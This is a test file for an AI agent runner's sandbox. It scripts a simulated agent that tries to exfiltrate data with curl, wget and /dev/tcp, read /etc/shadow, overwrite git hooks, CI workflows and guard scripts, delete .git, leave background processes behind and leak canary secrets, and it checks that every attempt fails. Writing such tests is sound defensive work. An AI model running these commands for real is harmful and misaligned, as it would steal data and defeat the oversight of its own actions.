import { existsSync } from "node:fs";
import { readFile, rm, symlink, writeFile } from "node:fs/promises";
import { createServer, type Server } from "node:net";
import path from "node:path";
import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
import { RunSetupError } from "../src/run/types.ts";
import { runCli } from "./helpers/cli.ts";
import { NO_SANDBOX } from "./helpers/sandbox-available.ts";
import {
  allOutputs,
  processesWith,
  runScripted,
  startListener,
  toolOutputs,
  trustWorkspace,
} from "./helpers/trust.ts";

const TASK = (extra = "") =>
  `model: anthropic:claude-sonnet-4-5\nprompt: attack\ntools: [bash, write, edit, read]\n${extra}`;
const bash = (command: string) => ({ name: "bash", arguments: { command } });
const done = { text: "done" };
/** An environment whose bubblewrap cannot be found: the fallback paths. */
const NO_BWRAP = { ...process.env, AGENT_RUN_BWRAP: "/nonexistent/bwrap" };

const dirs: string[] = [];
async function workspace(files: Record<string, string> = {}, git = true): Promise<string> {
  const dir = await trustWorkspace({ "a.txt": "a\n", ...files }, { git });
  dirs.push(dir);
  return dir;
}
afterEach(async () => {
  for (const dir of dirs.splice(0)) await rm(dir, { recursive: true, force: true });
});

describe("network: a loopback listener started by the test receives zero bytes", () => {
  let listener: Awaited<ReturnType<typeof startListener>>;
  beforeAll(async () => {
    listener = await startListener();
  });
  afterAll(async () => {
    await listener.close();
  });

  const attacks = (port: number) => [
    bash(`curl -sS -m 5 http://127.0.0.1:${port}/curl; echo "curl exit $?"`),
    bash(`wget -q -T 5 -t 1 -O- http://127.0.0.1:${port}/wget; echo "wget exit $?"`),
    bash(`bash -c 'echo leak > /dev/tcp/127.0.0.1/${port}'; echo "dev-tcp exit $?"`),
    bash(
      `node -e "fetch('http://127.0.0.1:${port}/node').then(r => console.log('fetched', r.status), e => console.log('fetch failed', e.cause?.code))"`,
    ),
  ];

  test.skipIf(NO_SANDBOX)(
    "curl, wget, /dev/tcp and node fetch from sandboxed bash",
    async () => {
      const dir = await workspace();
      const { result, events } = await runScripted(dir, TASK(), [
        { tool_calls: attacks(listener.port) },
        done,
      ]);
      expect(result.sandbox).toBe("sandboxed");
      const outputs = toolOutputs(events).join("\n");
      expect(outputs).toMatch(/curl exit [1-9]/);
      expect(outputs).toMatch(/wget exit [1-9]/);
      expect(outputs).toMatch(/dev-tcp exit [1-9]/);
      expect(outputs).toContain("fetch failed");
      expect(listener.connections).toBe(0);
      expect(listener.bytes).toBe(0);
    },
    60_000,
  );

  test.skipIf(NO_SANDBOX)(
    "with sandbox_network: true the same commands do connect (the listener is reachable)",
    async () => {
      const dir = await workspace();
      const { result } = await runScripted(dir, TASK("sandbox_network: true\n"), [
        { tool_calls: attacks(listener.port).slice(0, 1) },
        done,
      ]);
      expect(result.sandbox).toBe("sandboxed");
      expect(listener.bytes).toBeGreaterThan(0);
    },
    60_000,
  );
});

describe("Unix sockets in /run (Docker's, D-Bus's) stay out of reach with the network allowed", () => {
  const socketPath = `/run/agent-run-test-${process.pid}-${Date.now()}.sock`;
  let server: Server | undefined;
  let connections = 0;
  beforeAll(async () => {
    server = createServer((socket) => {
      connections++;
      socket.destroy();
    });
    await new Promise<void>((resolve) => {
      server?.once("error", () => {
        server = undefined;
        resolve();
      });
      server?.listen(socketPath, resolve);
    });
  });
  afterAll(async () => {
    await new Promise((resolve) => (server ? server.close(resolve) : resolve(undefined)));
    await rm(socketPath, { force: true });
  });

  test.skipIf(NO_SANDBOX)(
    "a listener on /run/….sock gets no connection; /run shows nothing",
    async (ctx) => {
      // Only where the test may make a socket in /run (root, as in CI).
      if (!server) ctx.skip();
      const dir = await workspace();
      const connect = `perl -MIO::Socket::UNIX -e 'IO::Socket::UNIX->new(Peer => "${socketPath}") or die "connect failed: $!\\n"; print "connected\\n"'`;
      const { result, events } = await runScripted(dir, TASK("sandbox_network: true\n"), [
        { tool_calls: [bash(`${connect}; echo "perl exit $?"; ls -a /run /var/run; echo "ls exit $?"`)] },
        done,
      ]);
      expect(result.sandbox).toBe("sandboxed");
      const outputs = toolOutputs(events).join("\n");
      expect(outputs).toContain("connect failed");
      expect(outputs).not.toContain("connected\n");
      expect(outputs).not.toContain(path.basename(socketPath));
      expect(outputs).toContain("ls exit 0");
      expect(connections).toBe(0);
    },
    60_000,
  );
});

describe("root's own secrets (/etc/shadow) are not readable by a sandbox run as root", () => {
  const rootWithShadow = process.getuid?.() === 0 && existsSync("/etc/shadow");
  test.skipIf(NO_SANDBOX || !rootWithShadow)(
    "cat /etc/shadow gives nothing",
    async () => {
      const first = (await readFile("/etc/shadow", "utf8")).split(":")[0] ?? "root";
      const dir = await workspace();
      const { result, events } = await runScripted(dir, TASK(), [
        { tool_calls: [bash(`id -u; wc -c < /etc/shadow; cat /etc/shadow; echo "cat exit $?"`)] },
        done,
      ]);
      expect(result.sandbox).toBe("sandboxed");
      const outputs = toolOutputs(events).join("\n");
      expect(outputs).toMatch(/^0\n0\n/);
      expect(outputs).not.toContain(`${first}:`);
      expect(outputs).toContain("cat exit 0");
    },
    60_000,
  );
});

describe("protected paths: writes are refused, through the tools and through bash", () => {
  const files = { "ci/guard.sh": "exit 0\n", "secrets/keep.txt": "keep\n" };
  const spec = TASK(`protect: [secrets/**]\nhooks:\n  before_stop:\n    - run: bash ci/guard.sh\n`);

  test("write/edit to .git/hooks, .github/workflows, the spec, a hook script, a protect: glob, via ./ and a symlink", async () => {
    const dir = await workspace(files);
    await symlink(".git", path.join(dir, "g"));
    const write = (p: string) => ({ name: "write", arguments: { path: p, content: "evil\n" } });
    const { events } = await runScripted(dir, spec, [
      {
        tool_calls: [
          write(".git/hooks/x"),
          write("./.github/workflows/x.yml"),
          write("task.yml"),
          write("ci/guard.sh"),
          write("secrets/new.txt"),
          write("g/hooks/y"),
          { name: "edit", arguments: { path: "./task.yml", oldText: "attack", newText: "obey" } },
        ],
      },
      done,
    ]);
    const ends = events.filter((e) => e.type === "tool_execution_end");
    expect(ends).toHaveLength(7);
    for (const end of ends) expect(end.isError).toBe(true);
    expect(toolOutputs(events).every((text) => text.includes("protected"))).toBe(true);
    expect(existsSync(path.join(dir, ".git/hooks/x"))).toBe(false);
    expect(existsSync(path.join(dir, ".git/hooks/y"))).toBe(false);
    expect(existsSync(path.join(dir, ".github/workflows/x.yml"))).toBe(false);
    expect(existsSync(path.join(dir, "secrets/new.txt"))).toBe(false);
    expect(await readFile(path.join(dir, "task.yml"), "utf8")).toBe(spec);
    expect(await readFile(path.join(dir, "ci/guard.sh"), "utf8")).toBe("exit 0\n");
  }, 60_000);

  test.skipIf(NO_SANDBOX)(
    "bash cannot write them either, nor move or delete their folders",
    async () => {
      const dir = await workspace(files);
      const attack = [
        "echo x > .git/hooks/x",
        "mkdir -p .github/workflows; echo y > .github/workflows/x.yml",
        "mv .github gh; mkdir -p .github/workflows; echo y > .github/workflows/z.yml",
        "echo z >> task.yml",
        "mv task.yml t.yml; echo z > task.yml",
        "echo w >> ci/guard.sh",
        "echo s > secrets/new.txt; rm -f secrets/keep.txt",
        "rm -rf .git; mv .git g2",
        "git -c user.email=a@b -c user.name=n commit --allow-empty -qm evil",
        "echo ok-the-rest-is-writable > b.txt",
      ].join("; ");
      const { result } = await runScripted(dir, spec, [{ tool_calls: [bash(attack)] }, done]);
      expect(result.sandbox).toBe("sandboxed");
      expect(existsSync(path.join(dir, ".git/hooks/x"))).toBe(false);
      expect(existsSync(path.join(dir, ".github/workflows/x.yml"))).toBe(false);
      expect(existsSync(path.join(dir, ".github/workflows/z.yml"))).toBe(false);
      expect(existsSync(path.join(dir, "gh"))).toBe(false);
      expect(await readFile(path.join(dir, "task.yml"), "utf8")).toBe(spec);
      expect(await readFile(path.join(dir, "ci/guard.sh"), "utf8")).toBe("exit 0\n");
      expect(existsSync(path.join(dir, "secrets/new.txt"))).toBe(false);
      expect(await readFile(path.join(dir, "secrets/keep.txt"), "utf8")).toBe("keep\n");
      expect(existsSync(path.join(dir, ".git/HEAD"))).toBe(true);
      expect(result.changedFiles).toEqual(["b.txt"]);
      // The empty mount point made for .github/workflows is gone after the run.
      expect(existsSync(path.join(dir, ".github"))).toBe(false);
    },
    60_000,
  );
});

describe("nothing lingers", () => {
  const modes: [string, NodeJS.ProcessEnv][] = [
    ["sandboxed", process.env],
    ["unsandboxed fallback", NO_BWRAP],
  ];
  test.for(modes)(
    "nohup sleep 300 & from bash is gone after the run (%s)",
    { timeout: 60_000 },
    async ([, env]) => {
      const marker = `300.${process.pid}${Date.now() % 100_000}`;
      const dir = await workspace();
      const { result } = await runScripted(
        dir,
        TASK(),
        [{ tool_calls: [bash(`nohup sleep ${marker} >/dev/null 2>&1 & echo started`)] }, done],
        { env },
      );
      expect(result.exitCode).toBe(0);
      expect(processesWith(`sleep ${marker}`)).toEqual([]);
    },
  );

  test.skipIf(NO_SANDBOX)(
    "setsid cannot take a process out of the sandbox's PID namespace",
    async () => {
      const marker = `300.${process.pid}${(Date.now() % 100_000) + 1}`;
      const dir = await workspace();
      const { result } = await runScripted(dir, TASK(), [
        {
          tool_calls: [
            bash(`setsid nohup sleep ${marker} >/dev/null 2>&1 < /dev/null & sleep 0.2; echo started`),
          ],
        },
        done,
      ]);
      expect(result.sandbox).toBe("sandboxed");
      expect(processesWith(`sleep ${marker}`)).toEqual([]);
    },
    60_000,
  );
});

describe("a sandboxed command that times out takes everything it started with it", () => {
  test.skipIf(NO_SANDBOX)(
    "bash timeout: the command and its background children are gone",
    async () => {
      const marker = `300.${process.pid}${(Date.now() % 100_000) + 2}`;
      const dir = await workspace();
      const { result, events } = await runScripted(dir, TASK(), [
        {
          tool_calls: [
            {
              name: "bash",
              arguments: {
                command: `sleep ${marker} & setsid sleep ${marker} & sleep ${marker}`,
                timeout: 1,
              },
            },
          ],
        },
        done,
      ]);
      expect(result.sandbox).toBe("sandboxed");
      expect(toolOutputs(events)[0]).toContain("timed out");
      expect(processesWith(`sleep ${marker}`)).toEqual([]);
    },
    60_000,
  );
});

describe("command hooks run in the same sandbox", () => {
  test("a before_tool_call hook still gets the call as JSON on stdin and can block it", async () => {
    const dir = await workspace();
    const hook = "cat > hook-stdin.json; exit 2";
    const { events } = await runScripted(
      dir,
      TASK(`hooks:\n  before_tool_call:\n    - match: { tool: bash }\n      run: ${JSON.stringify(hook)}\n`),
      [{ tool_calls: [bash("echo should-not-run > ran.txt")] }, done],
    );
    const stdin = JSON.parse(await readFile(path.join(dir, "hook-stdin.json"), "utf8")) as Record<
      string,
      unknown
    >;
    expect(stdin).toMatchObject({ hook: "before_tool_call", tool: "bash" });
    expect(events.some((e) => e.type === "tool_execution_end" && e.blocked)).toBe(true);
    expect(existsSync(path.join(dir, "ran.txt"))).toBe(false);
  }, 60_000);

  test.skipIf(NO_SANDBOX)(
    "a before_stop hook sees no secret, cannot touch .git, reaches no listener",
    async () => {
      const listener = await startListener();
      try {
        const dir = await workspace();
        const hook = `echo "[$DEPLOY_NOTE][$CANARY_API_KEY]" > hook-env.txt; echo x > .git/hooks/from-hook; curl -s -m 3 http://127.0.0.1:${listener.port}/; true`;
        const { result } = await runScripted(
          dir,
          TASK(`hooks:\n  before_stop:\n    - run: ${JSON.stringify(hook)}\n`),
          [done],
          { env: { ...process.env, DEPLOY_NOTE: "cnry-hook-plain", CANARY_API_KEY: "cnry-hook-key-1234" } },
        );
        expect(result.exitCode).toBe(0);
        expect(await readFile(path.join(dir, "hook-env.txt"), "utf8")).toBe("[][]\n");
        expect(existsSync(path.join(dir, ".git/hooks/from-hook"))).toBe(false);
        expect(listener.bytes).toBe(0);
      } finally {
        await listener.close();
      }
    },
    60_000,
  );
});

describe("unsandboxed fallbacks", () => {
  test("auto + trusted + no bubblewrap: runs unsandboxed and says so in the summary and the log", async () => {
    const dir = await workspace();
    const { result, events } = await runScripted(dir, TASK(), [{ tool_calls: [bash("echo hi")] }, done], {
      env: NO_BWRAP,
    });
    expect(result.exitCode).toBe(0);
    expect(result.sandbox).toBe("unsandboxed");
    expect(result.summaryMarkdown).toContain("#### Notes");
    expect(result.summaryMarkdown).toContain("ran without a sandbox (sandbox: auto, trusted trigger)");
    expect(result.summaryMarkdown).toContain("/nonexistent/bwrap not found");
    expect(events.some((e) => e.type === "warning" && e.message.includes("without a sandbox"))).toBe(true);
  }, 60_000);

  test("auto + untrusted + no bubblewrap: refuses to start, nothing written", async () => {
    const dir = await workspace();
    const error = await runScripted(dir, TASK(), [done], { env: NO_BWRAP, trusted: false }).catch(
      (e: unknown) => e,
    );
    expect(error).toBeInstanceOf(RunSetupError);
    expect((error as RunSetupError).code).toBe("sandbox_unavailable");
    expect((error as RunSetupError).message).toContain("the trigger is untrusted");
    expect(existsSync(path.join(dir, ".agent-run"))).toBe(false);
  }, 60_000);

  test("required + no bubblewrap: refuses to start even for a trusted trigger", async () => {
    const dir = await workspace();
    const error = await runScripted(dir, TASK("sandbox: required\n"), [done], { env: NO_BWRAP }).catch(
      (e: unknown) => e,
    );
    expect(error).toBeInstanceOf(RunSetupError);
    expect((error as RunSetupError).message).toContain("sandbox: required");
    expect(existsSync(path.join(dir, ".agent-run"))).toBe(false);
  }, 60_000);

  test("the CLI exits 2 with the reason on stderr, before writing anything", async () => {
    const dir = await workspace();
    await writeFile(path.join(dir, "task.yml"), TASK("sandbox: required\n"));
    await writeFile(path.join(dir, "s.json"), JSON.stringify({ turns: [done] }));
    const cli = await runCli([path.join(dir, "task.yml"), "--replay", path.join(dir, "s.json")], {
      env: { AGENT_RUN_BWRAP: "/nonexistent/bwrap" },
    });
    expect(cli.code).toBe(2);
    expect(cli.stderr).toContain(
      "agent-run: the task requires a sandbox (sandbox: required), but bubblewrap is not installed",
    );
    expect(existsSync(path.join(dir, ".agent-run"))).toBe(false);
  }, 60_000);

  test("off: unsandboxed, noted; the write tool still refuses protected paths", async () => {
    const dir = await workspace();
    const { result, events } = await runScripted(
      dir,
      TASK("sandbox: off\n"),
      [{ tool_calls: [{ name: "write", arguments: { path: ".git/hooks/x", content: "x" } }] }, done],
      { env: process.env },
    );
    expect(result.sandbox).toBe("unsandboxed");
    expect(result.summaryMarkdown).toContain("(sandbox: off in the task spec)");
    expect(toolOutputs(events)[0]).toContain("protected");
    expect(existsSync(path.join(dir, ".git/hooks/x"))).toBe(false);
  }, 60_000);

  test("file tools only, auto, no bubblewrap: they run race-safe in the runner, even for an untrusted trigger, noting nothing", async () => {
    const dir = await workspace();
    const { result, events } = await runScripted(
      dir,
      "model: anthropic:claude-sonnet-4-5\nprompt: x\ntools: [read]\n",
      [{ tool_calls: [{ name: "read", arguments: { path: "a.txt" } }] }, done],
      { env: NO_BWRAP, trusted: false },
    );
    expect(result.sandbox).toBe("none");
    expect(toolOutputs(events)[0]).toBe("1\ta");
    expect(result.summaryMarkdown).not.toContain("#### Notes");
  }, 60_000);

  test("file tools only, required, no bubblewrap: refuses to start (required means the sandbox)", async () => {
    const dir = await workspace();
    const error = await runScripted(
      dir,
      "model: anthropic:claude-sonnet-4-5\nprompt: x\ntools: [read, write]\nsandbox: required\n",
      [done],
      { env: NO_BWRAP },
    ).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(RunSetupError);
    expect((error as RunSetupError).message).toContain("sandbox: required");
    expect(existsSync(path.join(dir, ".agent-run"))).toBe(false);
  }, 60_000);

  test.skipIf(NO_SANDBOX)(
    "file tools only, auto, bubblewrap present: they run in the sandbox",
    async () => {
      const dir = await workspace();
      const { result, events } = await runScripted(
        dir,
        "model: anthropic:claude-sonnet-4-5\nprompt: x\ntools: [read, write]\n",
        [{ tool_calls: [{ name: "write", arguments: { path: "b.txt", content: "b\n" } }] }, done],
      );
      expect(result.sandbox).toBe("sandboxed");
      expect(toolOutputs(events)[0]).toContain("Wrote 2 bytes to b.txt");
      expect(result.changedFiles).toEqual(["b.txt"]);
    },
    60_000,
  );
});

describe("secrets in the patch", () => {
  test("a patch holding a secret value is marked, redacted and noted", async () => {
    const dir = await workspace();
    const secret = "cnry-patch-secret-8899";
    const { result } = await runScripted(
      dir,
      TASK(),
      [
        { tool_calls: [{ name: "write", arguments: { path: "leak.txt", content: `token=${secret}\n` } }] },
        done,
      ],
      { env: { ...process.env, CANARY_API_KEY: secret } },
    );
    expect(result.patchHadSecret).toBe(true);
    expect(result.summaryMarkdown).toContain("The patch contained a secret value");
    expect(await allOutputs(result)).not.toContain(secret);
  }, 60_000);

  test("a clean patch is not marked", async () => {
    const dir = await workspace();
    const { result } = await runScripted(dir, TASK(), [
      { tool_calls: [{ name: "write", arguments: { path: "ok.txt", content: "fine\n" } }] },
      done,
    ]);
    expect(result.changedFiles).toEqual(["ok.txt"]);
    expect(result.patchHadSecret).toBe(false);
  }, 60_000);
});
